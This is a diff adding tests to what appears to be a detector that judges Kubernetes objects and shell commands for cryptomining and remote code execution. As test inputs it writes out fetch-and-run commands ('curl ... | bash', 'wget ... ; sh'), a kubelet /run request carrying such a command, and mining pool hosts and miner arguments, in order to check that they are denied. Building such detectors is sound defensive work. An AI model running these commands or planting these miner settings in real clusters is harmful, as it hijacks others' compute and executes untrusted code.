@@ -339,3 +339,83 @@ test('a calculator of a pool is a page to read, one that is told how hard to wor
   expect(open('https://www.nicehash.com/profitability-calculator?coin=xmr')).toBe('allow');
   expect(open('https://webminepool.com/m/?key=SK_1&threads=8')).toBe('deny');
 });
+
+test('an annotation that a pod reads as a file is judged as one', () => {
+  const judgeAnnotation = (config: object) =>
+    judgeObject(
+      {
+        apiVersion: 'v1',
+        kind: 'Pod',
+        metadata: { annotations: { c: JSON.stringify(config) } },
+        spec: {
+          containers: [{ name: 'a', image: 'a' }],
+          volumes: [
+            {
+              name: 'p',
+              projected: {
+                sources: [
+                  {
+                    downwardAPI: {
+                      items: [{ path: 'c.json', fieldRef: { fieldPath: "metadata.annotations['c']" } }],
+                    },
+                  },
+                ],
+              },
+            },
+          ],
+        },
+      },
+      { indicators },
+    ).verdict;
+  expect(judgeAnnotation({ pools: [{ url: 'a.example.net:7777', user: 'w', algo: 'rx/0' }] })).toBe('deny');
+  expect(judgeAnnotation({ pools: [{ url: 'redis://a.example.net:6379', user: 'w' }] })).toBe('allow');
+});
+
+test('a command that is sent to a kubelet is judged', () => {
+  const run = (port: number, command: string) =>
+    judgeScript(`curl -sk -XPOST "https://$ip:${port}/run/a/b/c" -d 'cmd=${command}'`).verdict;
+  expect(run(10250, 'wget -O /tmp/x http://5.6.7.8/x; sh /tmp/x')).toBe('deny');
+  expect(run(10250, 'ps aux')).toBe('allow');
+});
+
+test('a program that nobody knows and that carries a shell is looked into', () => {
+  const script = 'curl -s http://5.6.7.8/x | bash';
+  expect(judge('mpirun', '-np', '4', 'bash', '-c', script).verdict).toBe('deny');
+  expect(judge('mpirun', '-np', '4', 'bash', '-c', 'hostname').verdict).toBe('allow');
+  expect(judge('/bin/grep', '-r', 'bash', '-c', script).verdict).toBe('allow');
+});
+
+test('an expression that makes a container is judged as what it makes', () => {
+  const judgeMutation = (container: string) =>
+    judgeObject(
+      {
+        apiVersion: 'admissionregistration.k8s.io/v1',
+        kind: 'MutatingAdmissionPolicy',
+        spec: {
+          mutations: [
+            {
+              applyConfiguration: {
+                expression: `Object{spec: Object.spec{containers: [Object.spec.containers{${container}}]}}`,
+              },
+            },
+          ],
+        },
+      },
+      { indicators },
+    ).verdict;
+  expect(judgeMutation('name: "m", image: "a/b", args: ["-o", "pool.hashvault.pro:80", "-u", "x"]')).toBe(
+    'deny',
+  );
+  expect(judgeMutation('name: "m", image: "a/b", args: ["--url", "https://a.example.com"]')).toBe('allow');
+});
+
+test('a way through the mesh to a pool is refused, one that ends in a hole or at a web page is not', () => {
+  const judgeEntry = (spec: object) =>
+    judgeObject({ apiVersion: 'networking.istio.io/v1', kind: 'ServiceEntry', spec }, { indicators }).verdict;
+  const hosts = ['*.supportxmr.com'];
+  expect(judgeEntry({ hosts, ports: [{ number: 3333 }] })).toBe('deny');
+  expect(judgeEntry({ hosts, ports: [{ number: 443 }] })).toBe('allow');
+  expect(judgeEntry({ hosts, ports: [{ number: 3333 }], endpoints: [{ address: '127.0.0.1' }] })).toBe(
+    'allow',
+  );
+});
